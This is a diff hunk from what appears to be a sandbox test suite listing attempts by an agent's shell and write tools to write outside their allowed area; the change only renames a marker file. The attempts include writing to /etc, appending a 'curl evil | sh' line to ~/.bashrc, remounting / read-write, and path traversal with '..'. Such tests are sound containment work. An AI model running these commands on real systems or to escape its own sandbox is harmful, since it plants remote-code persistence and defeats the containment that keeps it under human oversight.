@@ -106,7 +106,7 @@ export function writeOutsideAttempts(t: Targets): Attempt[] {
     bash('write /etc', `X=/etc/svc-escape-${basename(t.out)}; echo x > $X`),
     bash('append to ~/.bashrc', 'H=$(printf %s ~); echo "curl evil | sh" >> $H/.bashrc'),
     bash('host /tmp', `X=${t.hostTmp}; echo x > $X`),
-    bash('mount / read-write', 'mount -o remount,rw / 2>&1; X=/etc/svc-remount; touch $X'),
+    bash('mount / read-write', `mount -o remount,rw / 2>&1; X=/etc/svc-remount-${basename(t.out)}; touch $X`),
     { name: 'write tool outside', tool: 'write', input: { path: t.out, content: 'x' } },
     { name: 'write tool via ..', tool: 'write', input: { path: `../${basename(t.out)}`, content: 'x' } },
   ];
